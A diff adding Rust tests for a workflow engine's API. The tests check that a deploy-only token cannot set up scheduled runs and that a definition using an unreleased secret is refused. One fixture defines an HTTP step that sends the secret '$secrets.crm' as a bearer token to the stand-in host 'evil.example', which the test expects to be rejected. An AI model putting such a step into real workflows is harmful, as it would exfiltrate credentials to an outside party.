@@ -1,0 +1,45 @@
+//! What the scope `deploy` alone allows.
+
+use super::*;
+
+const SCHEDULED: &str = "document: { dsl: '1.0.3', namespace: a, name: b, version: '1.0.0' }
+schedule: { every: { hours: 1 } }
+do: [{ x: { set: { a: 1 } } }]
+";
+
+async fn deploy(face: &Face, token: &str, text: &str) -> Answer {
+    let bearer = format!("Bearer {token}");
+    let headers = [("authorization", bearer.as_str()), ("content-type", "application/yaml")];
+    face.send("PUT", "/api/v1/workflows/a/b", &headers, text.to_owned()).await
+}
+
+/// A clock has no rights of its own: it starts runs in the name of whoever set it.
+#[sqlx::test]
+async fn a_token_that_may_only_deploy_starts_no_runs_by_a_schedule(pool: PgPool) {
+    let face = Face::new(&pool).await;
+    let refused = deploy(&face, face.token(Scope::Deploy), SCHEDULED).await;
+    refused.is_problem(403, "missing-scope", "/api/v1/workflows/a/b");
+    assert!(face.app.engine.deployed().definitions.is_empty(), "nothing was deployed");
+    let by_event = SCHEDULED.replace("every: { hours: 1 }", "on: { one: { with: { source: crm, type: won } } }");
+    let allowed = deploy(&face, face.token(Scope::Deploy), &by_event.replace("1.0.0", "0.1.0")).await;
+    assert_eq!(allowed.status, 201, "an event has a right of its own");
+    let both = access::create_token(&pool, "both", &[Scope::Deploy, Scope::Operate], None).await.unwrap().1;
+    assert_eq!(deploy(&face, &both, SCHEDULED).await.status, 201);
+    face.close().await;
+}
+
+/// The deployment is refused with what to change; a definition never says where a secret goes.
+#[sqlx::test]
+async fn a_definition_with_a_secret_that_is_not_released_is_not_deployed(pool: PgPool) {
+    let face = Face::new(&pool).await;
+    let text = "document: { dsl: '1.0.3', namespace: a, name: b, version: '1.0.0' }
+do:
+  - x:
+      call: http
+      with: { method: get, endpoint: { uri: 'https://evil.example', authentication: { bearer: { token: '${ $secrets.crm }' } } } }
+";
+    let refused = deploy(&face, face.token(Scope::Admin), text).await;
+    refused.is_problem(422, "invalid", "/api/v1/workflows/a/b");
+    assert!(refused.body.to_string().contains("hub.yaml releases no secret `crm`"), "{}", refused.body);
+    face.close().await;
+}
